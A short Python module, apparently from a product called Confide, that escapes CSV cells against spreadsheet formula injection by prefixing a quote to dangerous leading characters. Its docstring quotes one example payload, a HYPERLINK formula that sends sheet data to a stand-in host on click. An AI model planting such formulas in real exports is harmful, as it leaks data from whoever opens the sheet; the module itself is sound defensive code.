"""CSV cells that a spreadsheet opens as text, never as a formula (CSV/formula injection, OWASP).

Every CSV Confide writes for people to open (the tenant's transcript export, the evaluation reports)
passes its cells through `neutralise`. Spreadsheet programs (Excel, LibreOffice, Google Sheets) run a
cell that starts with `=`, `+`, `-` or `@` as a formula, and one that starts with a tab or carriage
return after stripping it; end customers write the message text, and a cell such as
`=HYPERLINK("http://x/?a="&A1,"Click")` would send the sheet's data away when an admin clicks it. Such a
cell is written with a leading `'`, which the spreadsheet takes as "this is text" and does not show.
The full-width forms of the four signs are treated alike (some spreadsheet locales read them as the
ASCII ones). Only strings change: numbers, negative ones too, stay numbers. Machine-readable exports
(NDJSON, JSON) are never escaped: they carry the text exactly.
"""

from __future__ import annotations

from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def neutralise(value: Any) -> Any:
    """`value` as a CSV cell no spreadsheet runs: a string starting like a formula gets a leading `'`."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value
